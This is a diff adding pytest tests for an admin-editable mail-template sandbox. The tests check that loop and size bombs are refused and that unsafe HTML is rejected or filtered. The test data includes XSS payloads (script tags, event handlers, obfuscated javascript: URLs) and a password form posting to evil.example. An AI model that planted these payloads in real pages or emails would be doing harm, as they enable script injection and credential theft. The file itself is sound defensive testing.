@@ -1,5 +1,10 @@
 """Mail templates edited from the administration: sandbox refusals never saved, preview, variables, versions, rights."""
 
+import threading
+import time
+from collections.abc import Callable
+from typing import Any
+
 import pytest
 from sqlmodel import Session, select
 
@@ -41,7 +46,32 @@ REFUSED = [
     ("{{ 'x' * 100000000 }}", "body_html", "mail_template_unsafe"),
     ("{% for i in range(99999) %}{{ 'overflowing' }}{% endfor %}", "body_html", "mail_template_too_long"),
     ("{{ decision.nothing.deeper }}", "body_html", "mail_template_error"),
-]
+    # Work and size bounds: each of these used to render (building tens of megabytes, or looping for seconds).
+    ("{% for x in range(3000) %}{% for y in range(3000) %}{% endfor %}{% endfor %}", "body_html",
+     "mail_template_too_many_steps"),
+    ("{% macro twice(n) %}{% if n %}{{ twice(n - 1) }}{{ twice(n - 1) }}{% endif %}{% endmacro %}{{ twice(20) }}",
+     "body_html", "mail_template_too_many_steps"),
+    ("{{ '%50000000s'|format('x')|length }}", "body_html", "mail_template_value_too_large"),
+    ("{{ 'x'|center(50000000)|length }}", "body_html", "mail_template_value_too_large"),
+    ("{% set s = 'x' * 1000 %}" + "{% set s = s ~ s %}" * 16 + "{{ s|length }}", "body_html",
+     "mail_template_value_too_large"),
+    ("{{ (2).to_bytes(50000000, 'big')|length }}", "body_html", "mail_template_unsafe"),
+    ("{{ '{:>50000000}'.format('x')|length }}", "body_html", "mail_template_unsafe"),
+    ("{% for x in range(1000000) %}{% endfor %}", "body_html", "mail_template_range_too_large"),
+    # HTML outside the allow-list: it would reach the candidates.
+    ("<p>Bonjour<script>alert(1)</script></p>", "body_html", "mail_template_html"),
+    ('<p onmouseover="alert(1)">{{ account.first_name }}</p>', "body_html", "mail_template_html"),
+    ('<a href="javascript:alert(1)">Consulter</a>', "body_html", "mail_template_html"),
+    ('<a href=" JaVa&#10;Script:alert(1)">Consulter</a>', "body_html", "mail_template_html"),
+    ('<img src="x" onerror="alert(1)">', "body_html", "mail_template_html"),
+    ('<iframe src="https://evil.example/"></iframe>', "body_html", "mail_template_html"),
+    ('{% if decision.comment %}<form action="https://evil.example/"><input name="password"></form>{% endif %}',
+     "body_html", "mail_template_html"),
+]  # fmt: skip
+
+
+# The template of the issue: 10 billion loop turns, which froze the server for hours.
+ISSUE_LOOPS = "{% for x in range(99999) %}{% for y in range(99999) %}{% endfor %}{% endfor %}"
 
 
 @pytest.fixture
@@ -135,6 +165,85 @@ def test_a_template_that_fails_or_leaves_the_sandbox_is_refused_and_never_saved(
     session.rollback()
     assert session.exec(select(MailTemplate)).all() == []
     assert session.exec(select(AuditEvent).where(AuditEvent.action == "mail_template.saved")).all() == []
+
+
+def test_allowed_html_is_kept_and_the_refusal_names_what_is_not(session: Session, central) -> None:
+    body = (
+        '<p style="color: #333; font-weight: bold">Bonjour {{ account.first_name }},</p><ul><li>un</li></ul>'
+        '<p><a href="{{ link }}">Consulter</a> — <a href="mailto:{{ assistance_email }}">nous écrire</a></p>'
+    )
+    mail = service.preview_template(session, actor=central, code=CODE, language="fr", subject="x", body_html=body)
+    assert '<p style="color:#333;font-weight:bold">Bonjour Éloïse,</p>' in mail.html
+    assert f'<a href="{sample_context(CODE)["link"]}">Consulter</a>' in mail.html
+    with pytest.raises(DomainError) as refused:
+        service.save_template(
+            session, actor=central, code=CODE, language="fr", subject="x", expected_version=None,
+            body_html='<p onclick="x()">a</p><script>b</script><a href="javascript:c()" onclick="d()">e</a>',
+        )  # fmt: skip
+    assert refused.value.params["items"] == "onclick, <script>, javascript:"
+    assert "HTML non autorisé : onclick, <script>, javascript:" in refused.value.translate(lambda s: s)
+
+
+def _within(seconds: float, work: Callable[[], Any]) -> Any:
+    """Run ``work`` in a thread; fail if it is still running after ``seconds`` (it then goes on in the background)."""
+    outcome: dict[str, Any] = {}
+
+    def run() -> None:
+        try:
+            outcome["value"] = work()
+        except BaseException as exc:
+            outcome["error"] = exc
+
+    worker = threading.Thread(target=run, daemon=True)
+    started = time.monotonic()
+    worker.start()
+    worker.join(seconds)
+    assert not worker.is_alive(), f"still working after {seconds} s"
+    outcome["seconds"] = time.monotonic() - started
+    return outcome
+
+
+def test_the_template_of_the_issue_is_refused_at_preview_and_save_within_a_bounded_time(
+    session: Session, central
+) -> None:
+    kwargs = {"actor": central, "code": CODE, "language": "fr", "subject": "Objet", "body_html": ISSUE_LOOPS}
+    preview = _within(10, lambda: service.preview_template(session, **kwargs))
+    save = _within(10, lambda: service.save_template(session, **kwargs, expected_version=None))
+    for outcome in (preview, save):
+        refusal = outcome.get("error")
+        assert isinstance(refusal, DomainError) and refusal.code == "mail_template_too_many_steps", refusal
+        assert refusal.field == "body_html"
+        assert "plus de 50000 tours de boucle ou appels" in refusal.translate(lambda s: s)
+        assert outcome["seconds"] < 5
+    session.rollback()
+    assert session.exec(select(MailTemplate)).all() == []
+
+
+def test_a_stored_template_looping_for_hours_does_not_hold_a_decision_mail(session: Session) -> None:
+    # Saved before the bounds existed (or written to the table directly): sending uses the shipped default, fast.
+    session.add(MailTemplate(code=CODE, language="fr", subject="Objet", body_html=ISSUE_LOOPS))
+    session.commit()
+    outcome = _within(10, lambda: enqueue_mail(session, code=CODE, to="a@example.org", context=sample_context(CODE)))
+    assert "error" not in outcome, outcome.get("error")
+    assert outcome["value"].subject == load_default(CODE, "fr")[0].replace(  # type: ignore[index]
+        "{{ program.title }}", sample_context(CODE)["program"]["title"]
+    )
+
+
+def test_a_stored_template_with_unsafe_html_is_filtered_before_it_is_sent(session: Session) -> None:
+    body = (
+        '<p onclick="steal()">Bonjour {{ account.first_name }}</p><script>steal()</script>'
+        '<a href="javascript:steal()">ici</a><a href="{{ link }}" onmouseover="steal()">là</a>'
+        '<style>p { display: none }</style><iframe src="https://evil.example/"></iframe>'
+    )
+    session.add(MailTemplate(code=CODE, language="fr", subject="Objet", body_html=body))
+    session.commit()
+    mail = enqueue_mail(session, code=CODE, to="a@example.org", context=sample_context(CODE))
+    content = mail.body_html.lower()
+    for unsafe in ("<script", "steal", "onclick", "onmouseover", "javascript:", "<iframe", "display: none"):
+        assert unsafe not in content, unsafe
+    assert "Bonjour Éloïse" in mail.body_html and f'href="{sample_context(CODE)["link"]}"' in mail.body_html
+    assert "Bonjour Éloïse" in mail.body_text
 
 
 def test_a_subject_error_is_shown_next_to_the_subject(session: Session, central) -> None:
